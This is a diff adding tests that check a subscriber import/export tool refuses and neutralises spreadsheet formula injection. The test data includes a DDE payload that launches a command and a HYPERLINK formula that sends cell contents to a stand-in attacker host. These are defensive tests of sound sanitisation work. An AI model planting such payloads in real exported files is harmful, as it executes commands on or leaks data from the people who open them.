@@ -234,3 +234,57 @@ def test_a_bad_status_or_a_confirmed_row_without_consent_is_refused(runner, tmp_
     assert "line 3: status:" in result.output
     assert "line 4: suppressed_at:" in result.output
     assert count(Subscriber) == 0
+
+
+FORMULA = "=cmd|'/Ccalc'!A0@example.com"
+
+
+def test_an_address_a_spreadsheet_would_run_is_refused_at_the_door(client, runner, tmp_path):
+    answer = client.post(
+        "/api/v1/subscriptions", json={"email": FORMULA, "strands": ["fraud-error-debt"]}
+    )
+    assert answer.status_code == 400
+    assert "does not start with =" in answer.json["fields"]["email"]
+    path = write(tmp_path, f"{FORMULA},fraud-error-debt,daily,true,,\n")
+    result = runner.invoke(args=["subscribers", "import", path])
+    assert result.exit_code == 2
+    assert "line 2: email: Enter an email address that does not start with =" in result.output
+    assert count(Subscriber) == 0
+
+
+def test_export_cells_never_start_a_formula_and_import_back_unchanged(runner, tmp_path):
+    path = write(
+        tmp_path,
+        "ada@example.org,fraud-error-debt,daily,true,2026-01-01T00:00:00Z,"
+        '"=HYPERLINK(""http://evil.example/?""&A2,""open"")"\n'
+        "bob@example.org,fraud-error-debt,daily,true,2026-01-01T00:00:00Z,- June sheet\n"
+        "cy@example.org,fraud-error-debt,daily,true,2026-01-01T00:00:00Z,''@ quoted\n"
+        "di@example.org,fraud-error-debt,daily,true,2026-01-01T00:00:00Z,'plain quote\n",
+    )
+    assert runner.invoke(args=["subscribers", "import", path]).exit_code == 0
+    # One accepted before the door refused such addresses.
+    db.session.add(Subscriber(email=FORMULA.lower(), status="suppressed", suppressed_reason="+1"))
+    db.session.commit()
+    exported = runner.invoke(args=["subscribers", "export"]).output
+    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
+    assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
+    rows = {row["email"]: row for row in csv.DictReader(io.StringIO(exported))}
+    assert rows["'" + FORMULA.lower()]["suppressed_reason"] == "'+1"
+    assert rows["bob@example.org"]["consent_source"] == "'- June sheet"
+    assert rows["cy@example.org"]["consent_source"] == "''@ quoted"
+    assert rows["di@example.org"]["consent_source"] == "'plain quote"
+
+    db.session.execute(Subscriber.__table__.delete().where(Subscriber.email == FORMULA.lower()))
+    db.session.commit()
+    exported = runner.invoke(args=["subscribers", "export"]).output
+    (tmp_path / "again.csv").write_text(exported)
+    wipe()
+    assert runner.invoke(args=["subscribers", "import", str(tmp_path / "again.csv")]).exit_code == 0
+    assert runner.invoke(args=["subscribers", "export"]).output == exported
+    sources = {row.source for row in db.session.scalars(select(ConsentRecord))}
+    assert sources == {
+        '=HYPERLINK("http://evil.example/?"&A2,"open")',
+        "- June sheet",
+        "'@ quoted",
+        "'plain quote",
+    }
